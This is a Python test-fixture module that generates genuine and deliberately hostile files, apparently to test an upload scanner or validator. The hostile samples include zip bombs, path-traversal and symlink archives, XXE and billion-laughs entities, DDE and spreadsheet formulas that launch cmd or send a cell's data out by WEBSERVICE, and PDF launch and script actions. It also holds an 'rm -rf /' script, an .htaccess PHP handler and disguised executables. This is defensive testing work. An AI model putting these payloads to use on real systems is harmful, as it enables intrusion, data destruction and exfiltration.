"""Files, genuine and hostile, built here so that everybody can read what is in them."""

import io
import struct
import zipfile
import zlib
from pathlib import Path

import pikepdf
from openpyxl import Workbook
from PIL import Image

GENUINE = Path(__file__).parent / "genuine"  # written by python-docx 1.2, python-pptx 1.0 and odfpy 1.4
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
TYPES = f'<Types><Override PartName="/word/document.xml" ContentType="{MAIN}"/></Types>'
WORD = {"[Content_Types].xml": TYPES, "word/document.xml": "<w:document xmlns:w='w'/>"}
MANIFEST = "<manifest:manifest xmlns:manifest='m'/>"
ODT = {
    "mimetype": "application/vnd.oasis.opendocument.text",
    "content.xml": "<x/>",
    "META-INF/manifest.xml": MANIFEST,
}
LAUGHS = '<!DOCTYPE d [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {new} "{f"&{old};" * 10}">' for old, new in zip("abcdefgh", "bcdefghi", strict=True)
)


def archive(members, *, compression=zipfile.ZIP_DEFLATED):
    """An archive of these members, each a name (or a ZipInfo) with its content."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", compression) as written:
        for name, content in members.items():
            written.writestr(name, content)
    return packed.getvalue()


def _path(name):
    return name.replace("___", "/_").replace("__", "/")


def word(**more):
    """A document with more in it; `__` stands for a slash in a name."""
    return archive({**WORD, **{_path(name): content for name, content in more.items()}})


def pdf(change=None, **options):
    """A PDF of one page, changed before it is written."""
    written = io.BytesIO()
    with pikepdf.new() as made:
        made.add_blank_page(page_size=(200, 200))
        if change:
            change(made)
        made.save(written, **options)
    return written.getvalue()


def acting(action):
    """A change that has the PDF do `action` when it is opened."""

    def change(made):
        made.Root.OpenAction = made.make_indirect(pikepdf.Dictionary(action))

    return change


def picture(kind="PNG", size=(20, 10), **options):
    written = io.BytesIO()
    Image.effect_noise(size, 50).convert("RGB").save(written, kind, **options)
    return written.getvalue()


def placed():
    """A photograph that says where it was taken."""
    exif = Image.Exif()
    exif[0x010E] = "GEHEIM"
    exif.get_ifd(0x8825)[2] = (34.0, 1.0, 15.0)
    return picture("JPEG", exif=exif)


def vast(side=40_000):
    """A PNG that says it has 1.6 thousand million points."""

    def chunk(kind, content):
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0))
    rows = zlib.compressobj(9)
    packed = b"".join(rows.compress(b"\0" * (3 * side + 1)) for _row in range(60)) + rows.flush()
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def workbook(formula=None):
    book = Workbook()
    book.active.append(["name", 5, formula])
    written = io.BytesIO()
    book.save(written)
    return written.getvalue()


def overlapping():
    """Two members whose places in the archive are the same bytes."""
    packed = bytearray(word(a="x" * 4000, b="y" * 4000))
    directory = packed.rfind(b"PK\x01\x02")
    first = packed.find(b"PK\x01\x02", packed.find(b"PK\x01\x02") + 1)
    first = packed.find(b"PK\x01\x02", first + 1)
    packed[directory + 42 : directory + 46] = packed[first + 42 : first + 46]
    return bytes(packed)


def linked():
    member = zipfile.ZipInfo("word/link")
    member.external_attr = 0o120777 << 16
    return archive({**WORD, member: "/etc/passwd"})


def embedded(made):
    made.attachments["x.exe"] = b"MZ\x90\0"


def with_form(made):
    made.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pikepdf.String("<xdp/>"))


def with_sound(made):
    made.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Screen)])


def with_names(made):
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    made.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["x", script])))


def with_page_action(made):
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    made.pages[0].AA = pikepdf.Dictionary(O=action)


def opens_first_page(made):
    made.Root.OpenAction = pikepdf.Array([made.pages[0].obj, pikepdf.Name.Fit])


def with_link(made):
    action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://example.org/"))
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=pikepdf.Array([0, 0, 9, 9]), A=action
    )
    made.pages[0].Annots = pikepdf.Array([link])


def script():
    return {"/S": pikepdf.Name.JavaScript, "/JS": pikepdf.String("app.alert(1)")}


def relation(kind, target="https://example.org/x", part="document.xml"):
    return {
        f"word___rels__{part}.rels": "<Relationships>"
        f'<Relationship Id="r" Type="http://x/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    }


HOSTILE = {
    # Archives
    ("a bomb", "a.docx"): lambda: word(word__media__x="0" * 40_000_000),
    ("a bomb of many members", "a.docx"): lambda: word(**{f"m{n}": "" for n in range(2_100)}),
    ("an archive inside", "a.docx"): lambda: word(word__media__x=archive({"a": "a"})),
    ("an archive inside called picture", "a.docx"): lambda: word(**{"word__media__x.png": archive({"a": "a"})}),
    ("an object inside", "a.docx"): lambda: word(**{"word__embeddings__oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
    ("a program inside", "a.docx"): lambda: word(**{"word__media__x.png": b"MZ\x90\0"}),
    ("members over one another", "a.docx"): overlapping,
    ("a way out", "a.docx"): lambda: word(**{"..__..__etc__passwd": "x"}),
    ("a way out with backslashes", "a.docx"): lambda: word(**{"..\\..\\x": "x"}),
    ("a folder of the system", "a.docx"): lambda: word(**{"__etc__passwd": "x"}),
    ("a symbolic link", "a.docx"): linked,
    ("the same name twice", "a.docx"): lambda: word(a="1", A="2"),
    ("something before the archive", "a.docx"): lambda: b"#!/bin/sh\n" + word(),
    ("something behind the archive", "a.docx"): lambda: word() + b"<script>alert(1)</script>",
    # Documents
    ("macros", "a.docx"): lambda: archive({**WORD, "word/vbaProject.bin": "x"}),
    ("macros in other letters", "a.docx"): lambda: archive({**WORD, "word/VBAPROJECT.BIN": "x"}),
    ("macros by type", "a.docx"): lambda: archive(
        {**WORD, "[Content_Types].xml": TYPES.replace("</", '<Override ContentType="application/x.macroEnabled"/></')}
    ),
    ("macros of an older sort", "a.xlsx"): lambda: archive({**WORD, "xl/macrosheets/sheet1.xml": "<x/>"}),
    ("controls", "a.docx"): lambda: word(**{"word__activeX__activeX1.xml": "<x/>"}),
    ("macros of an open document", "a.odt"): lambda: archive({**ODT, "Basic/Standard/Module.xml": "<x/>"}),
    ("scripts of an open document", "a.odt"): lambda: archive(
        {**ODT, "content.xml": "<x><script:event-listener xmlns:script='s'/></x>"}
    ),
    ("a locked open document", "a.odt"): lambda: archive(
        {**ODT, "META-INF/manifest.xml": "<m:manifest xmlns:m='m'><m:encryption-data/></m:manifest>"}
    ),
    ("a picture from elsewhere", "a.odt"): lambda: archive(
        {**ODT, "content.xml": "<x xmlns:draw='d' xmlns:xlink='l'><draw:image xlink:href='http://x/y'/></x>"}
    ),
    ("a template from elsewhere", "a.docx"): lambda: word(**relation("attachedTemplate", part="settings.xml")),
    ("a picture from elsewhere in a document", "a.docx"): lambda: word(**relation("image")),
    ("an object from elsewhere", "a.docx"): lambda: word(**relation("oleObject")),
    ("a field that starts a program", "a.docx"): lambda: archive(
        {**WORD, "word/document.xml": "<w:d xmlns:w='w'><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:d>"}
    ),
    ("a formula that starts a program", "a.xlsx"): lambda: workbook("=cmd|'/C calc'!A0"),
    ("a formula that fetches", "a.xlsx"): lambda: workbook('=WEBSERVICE("https://example.org/"&A1)'),
    ("entities that blow up", "a.docx"): lambda: archive({**WORD, "word/document.xml": LAUGHS + "]><d>&i;</d>"}),
    ("entities in another encoding", "a.docx"): lambda: archive(
        {**WORD, "word/document.xml": '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE d><d/>'.encode("utf-16")}
    ),
    ("an entity that fetches", "a.docx"): lambda: archive(
        {**WORD, "word/document.xml": '<!DOCTYPE d SYSTEM "file:///etc/passwd"><d/>'}
    ),
    ("broken markup", "a.docx"): lambda: archive({**WORD, "word/document.xml": "<document>"}),
    ("a bare archive", "a.docx"): lambda: archive({"a.txt": "a"}),
    ("half a document", "a.docx"): lambda: word()[:-40],
    # PDF
    ("a script on opening", "a.pdf"): lambda: pdf(acting(script())),
    ("a program on opening", "a.pdf"): lambda: pdf(acting({"/S": pikepdf.Name.Launch, "/F": "cmd.exe"})),
    ("a form that sends", "a.pdf"): lambda: pdf(acting({"/S": pikepdf.Name.SubmitForm, "/F": "https://x/"})),
    ("a file elsewhere", "a.pdf"): lambda: pdf(acting({"/S": pikepdf.Name.GoToR, "/F": "\\\\host\\share"})),
    ("a script by name", "a.pdf"): lambda: pdf(with_names),
    ("a script of a page", "a.pdf"): lambda: pdf(with_page_action),
    ("a script in a packed object", "a.pdf"): lambda: pdf(
        with_page_action, object_stream_mode=pikepdf.ObjectStreamMode.generate
    ),
    ("a file inside a PDF", "a.pdf"): lambda: pdf(embedded),
    ("a form of another sort", "a.pdf"): lambda: pdf(with_form),
    ("moving pictures", "a.pdf"): lambda: pdf(with_sound),
    ("a locked PDF", "a.pdf"): lambda: pdf(encryption=pikepdf.Encryption(owner="x", user="y")),
    ("a PDF locked for its owner", "a.pdf"): lambda: pdf(encryption=pikepdf.Encryption(owner="x", user="")),
    ("a page before a PDF", "a.pdf"): lambda: b"<html><script>alert(1)</script>" + pdf(),
    ("a page inside the head of a PDF", "a.pdf"): lambda: pdf().replace(
        b"\n", b"\n%<html><script>alert(1)</script>\n", 1
    ),
    ("a page behind a PDF", "a.pdf"): lambda: pdf() + b"<script>alert(1)</script>",
    ("an archive behind a PDF", "a.pdf"): lambda: pdf() + archive({"a": "a"}),
    ("half a PDF", "a.pdf"): lambda: pdf()[:100],
    ("only the mark of a PDF", "a.pdf"): lambda: b"%PDF-1.4\n%%EOF",
    # Pictures
    ("a vast picture", "a.png"): vast,
    ("half a picture", "a.png"): lambda: picture()[:-60],
    ("a picture that is a script", "a.gif"): lambda: b"GIF89a/*\x01\0\x01\0\x80\0\0*/=1;alert(1)//;",
    ("a GIF called picture", "a.png"): lambda: picture("GIF"),
    ("a drawing with a script", "a.svg"): lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    ("a drawing called picture", "a.png"): lambda: b"<svg><foreignObject><script>1</script></foreignObject></svg>",
    ("a drawing that leads elsewhere", "a.txt"): lambda: b"<svg><a xlink:href='javascript:alert(1)'/></svg>",
    # Text and names
    ("a virus", "a.txt"): lambda: EICAR,
    ("a page called text", "a.txt"): lambda: b" <!DOCTYPE html><script>alert(1)</script>",
    ("a program", "a.exe"): lambda: b"MZ\x90\0\x03" + b"\0" * 60,
    ("a program called PDF", "a.pdf"): lambda: b"MZ\x90\0\x03" + b"\0" * 60,
    ("a program for a shell", "a.txt"): lambda: b"#!/bin/sh\nrm -rf /\n",
    ("settings of a server", ".htaccess"): lambda: b"AddType application/x-httpd-php .txt\n",
    ("text in another encoding", "a.txt"): lambda: "é".encode("latin-1"),
    ("text with signs for machines", "a.csv"): lambda: b"a\0b",
    ("an empty file", "a.pdf"): lambda: b"",
    ("a PDF called picture", "a.png"): pdf,
    ("a picture called PDF", "a.pdf"): picture,
    ("a PDF called page", "a.html"): pdf,
    ("a PDF turned around", "a\u202efdp.exe"): pdf,
    ("a PDF with two ends", "a.pdf.exe"): pdf,
}

TAKEN = {
    ("a PDF", "a.pdf"): pdf,
    ("a PDF that opens on its first page", "a.pdf"): lambda: pdf(opens_first_page),
    ("a PDF with a link", "a.pdf"): lambda: pdf(with_link),
    ("a PDF with packed objects", "a.pdf"): lambda: pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate),
    ("a PDF by a long name", "a" * 300 + ".pdf"): pdf,
    ("a PDF by a reserved name", "NUL.pdf"): pdf,
    ("a PDF by an Arabic name", "محضر الجلسة.pdf"): pdf,
    ("a PNG", "a.PNG"): picture,
    ("a PNG with letters for colours", "a.png"): lambda: picture("PNG", optimize=True),
    ("a JPEG", "a.jpeg"): lambda: picture("JPEG"),
    ("a JPEG that says where it was taken", "a.jpg"): placed,
    ("a workbook", "a.xlsx"): workbook,
    ("a workbook with a sum", "a.xlsx"): lambda: workbook("=SUM(B1:B1)"),
    ("a document", "a.docx"): lambda: (GENUINE / "report.docx").read_bytes(),
    ("slides", "a.pptx"): lambda: (GENUINE / "slides.pptx").read_bytes(),
    ("an open document", "a.odt"): lambda: (GENUINE / "report.odt").read_bytes(),
    ("an open table", "a.ods"): lambda: (GENUINE / "table.ods").read_bytes(),
    ("open slides", "a.odp"): lambda: (GENUINE / "slides.odp").read_bytes(),
    ("a table", "a.csv"): lambda: "اسم;n\n".encode(),
    ("text", "a.txt"): lambda: "Fait à Rabat.\n".encode("utf-8-sig"),
}
